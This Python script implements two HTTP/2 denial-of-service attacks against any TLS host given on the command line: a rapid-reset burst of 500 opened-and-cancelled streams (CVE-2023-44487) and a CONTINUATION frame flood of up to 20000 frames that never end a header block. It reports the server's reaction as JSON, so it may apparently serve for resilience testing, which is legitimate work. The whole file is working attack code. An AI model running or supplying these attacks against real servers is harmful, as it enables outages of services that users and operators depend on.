"""HTTP/2 abuse against a TLS listener, with the PyPI `h2`/`hpack` libraries and raw frames.

Usage: h2_abuse.py HOST PORT SERVER_NAME ROOT_PEM ATTACK [SOURCE_IP]

ATTACK is one of:
  rapid-reset    open streams and reset each at once, 500 times in one burst (CVE-2023-44487)
  continuation   one HEADERS frame without END_HEADERS, then CONTINUATION frames without end
  normal         one GET /, for comparison

Prints one JSON object: what came back (status of the normal request, the GOAWAY error code,
whether the connection was closed, how many bytes were written before it was).
"""

import json
import socket
import ssl
import struct
import sys

import h2.config
import h2.connection
import h2.events
import hpack

host, port, name, root, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
source = (sys.argv[6], 0) if len(sys.argv) > 6 else None

ctx = ssl.create_default_context(cafile=root)
ctx.set_alpn_protocols(["h2"])
raw = socket.create_connection((host, port), timeout=5, source_address=source)
sock = ctx.wrap_socket(raw, server_hostname=name)
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()

conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
headers = [(":method", "GET"), (":path", "/"), (":scheme", "https"), (":authority", name)]
result = {"attack": attack, "goaway": None, "closed": False, "status": None, "sent": 0}


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def send(data):
    try:
        sock.sendall(data)
        result["sent"] += len(data)
        return True
    except OSError:
        result["closed"] = True
        return False


if attack == "rapid-reset":
    burst = bytearray()
    for i in range(500):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers)
        conn.reset_stream(sid)
        burst += conn.data_to_send()
    send(bytes(burst))
elif attack == "continuation":
    enc = hpack.Encoder()
    first = enc.encode(headers)
    send(frame(0x1, 0x0, 1, first))  # HEADERS, no END_HEADERS, no END_STREAM
    junk = hpack.Encoder()
    for i in range(20000):
        # Small fragments, never ending the header block.
        if not send(frame(0x9, 0x0, 1, junk.encode([("x-flood-%d" % (i % 50), "a" * 64)]))):
            break
else:
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers, end_stream=True)
    send(conn.data_to_send())

sock.settimeout(5)
try:
    while True:
        data = sock.recv(65536)
        if not data:
            result["closed"] = True
            break
        try:
            events = conn.receive_data(data)
        except Exception as e:  # the server's frames after our own garbage may not parse
            result["parse_error"] = type(e).__name__
            break
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                result["goaway"] = int(ev.error_code)
            elif isinstance(ev, h2.events.ResponseReceived):
                result["status"] = dict(ev.headers).get(":status")
            elif isinstance(ev, h2.events.StreamEnded) and attack == "normal":
                raise StopIteration
        out = conn.data_to_send()
        if out:
            send(out)
        if result["goaway"] is not None:
            break
except StopIteration:
    pass
except (socket.timeout, ssl.SSLError, OSError) as e:
    result["error"] = type(e).__name__
print(json.dumps(result), flush=True)
